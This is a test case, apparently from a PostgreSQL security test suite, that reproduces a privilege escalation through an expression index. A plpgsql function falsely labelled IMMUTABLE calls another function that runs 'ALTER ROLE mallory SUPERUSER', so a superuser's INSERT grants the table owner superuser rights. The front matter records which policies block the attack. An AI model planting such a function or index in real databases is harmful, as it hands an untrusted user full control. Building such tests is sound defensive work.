/*---
title: Expression index evaluated on INSERT
pattern: Index expression runs the table owner's function with the inserter's rights (CVE-2020-25695 family)
description: >
  mallory owns a table with an expression index over an IMMUTABLE-labelled function of hers and lets
  everyone insert into it. alice, a superuser, inserts a row; computing the index entry runs mallory's
  function with alice's rights, and it makes mallory a superuser.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: index_expression, object: index readings_bucket on mallory.readings, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: index_expression, object: index readings_bucket on mallory.readings, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: index_expression, object: index readings_bucket on mallory.readings, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: index_expression, object: index readings_bucket on mallory.readings, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: index_expression, object: index readings_bucket on mallory.readings, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: index_expression, object: index readings_bucket on mallory.readings, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: index_expression, object: index readings_bucket on mallory.readings, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.f_escalate() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN 1;
END $$;
CREATE FUNCTION mallory.f_bucket(i integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM mallory.f_escalate();
    RETURN i % 10;
END $$;
CREATE TABLE mallory.readings(id integer, reading numeric);
CREATE INDEX readings_bucket ON mallory.readings (mallory.f_bucket(id));
GRANT INSERT ON mallory.readings TO PUBLIC;
RESET ROLE;

-- @step alice
INSERT INTO mallory.readings VALUES (1, 20.5);
